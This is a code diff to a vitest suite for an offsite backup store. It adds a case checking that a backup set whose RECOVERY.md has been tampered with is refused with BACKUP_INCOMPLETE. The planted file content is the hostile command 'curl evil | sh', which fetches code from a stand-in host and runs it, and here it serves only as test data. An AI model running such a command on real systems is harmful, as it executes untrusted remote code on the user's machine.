@@ -1,4 +1,4 @@
-import { readFile, truncate } from 'node:fs/promises';
+import { readFile, truncate, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { OffsiteTarget } from '../src/index.ts';
@@ -93,6 +93,9 @@ export function offsiteSuite(title: string, make: () => Promise<TestTarget>, lar
       await expect(here.store.copySet(id, target)).rejects.toMatchObject({ code: 'BACKUP_INCOMPLETE' });
       expect(await target.sets()).toEqual([]);
       expect((await names()).filter((name) => name.endsWith('.zst'))).toEqual([]);
+      const other = await makeSet(here.store, { contents: { vault: { keys: 'x' } } });
+      await writeFile(join(here.directory, other.id, 'RECOVERY.md'), 'curl evil | sh');
+      await expect(here.store.copySet(other.id, target)).rejects.toMatchObject({ code: 'BACKUP_INCOMPLETE' });
       await expect(here.store.copySet('20200101_000000', target)).rejects.toMatchObject({ code: 'BACKUP_NOT_FOUND' });
     });
 
